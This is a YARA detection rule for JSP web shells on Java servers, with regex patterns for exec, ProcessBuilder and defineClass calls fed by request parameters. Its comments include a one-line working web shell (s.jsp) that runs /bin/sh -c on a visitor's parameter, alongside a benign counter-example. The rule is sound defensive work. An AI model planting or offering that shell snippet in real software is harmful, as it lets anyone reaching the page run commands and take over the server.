rule java_web_shell : text
{
    meta:
        title = "let visitors of a web page run commands"
        explanation = "A page of a Java server starts a program with words that a visitor sends. Whoever finds the page owns the server. Remove the page, and ask how it came into the image."
        class = "malware"
        severity = "high"
        confidence = "high"
        attack = "T1505.003"
        reference = "https://attack.mitre.org/techniques/T1505/003/"
    strings:
        $page = "<%@ page"
        $direct1 = /\.exec\s*\([^;]{0,160}request\s*\.\s*getParameter\s*\(/
        $direct2 = /new\s+ProcessBuilder\s*\([^;]{0,160}request\s*\.\s*getParameter\s*\(/
        $load = /defineClass\s*\([^;]{0,200}request\s*\.\s*get(Parameter|Reader|InputStream)\s*\(/
    condition:
        filesize < 256KB and uint32(0) != 0x464c457f and (uint16(0) == 0x253c or $page in (0..2048)) and 1 of ($direct*, $load)
}

/* example: fires on the common form
    FILE /usr/local/tomcat/webapps/ROOT/s.jsp
        <%@ page import="java.io.*" %>
        <% Process p = Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", request.getParameter("c")}); %>
*/
/* example: quiet on a page that shows what it is sent and one that runs a program of its own
    FILE /usr/local/tomcat/webapps/ROOT/hello.jsp
        <% String name = request.getParameter("name"); Runtime.getRuntime().exec("/usr/bin/uptime"); %>
        <p>Hello <%= name %></p>
*/
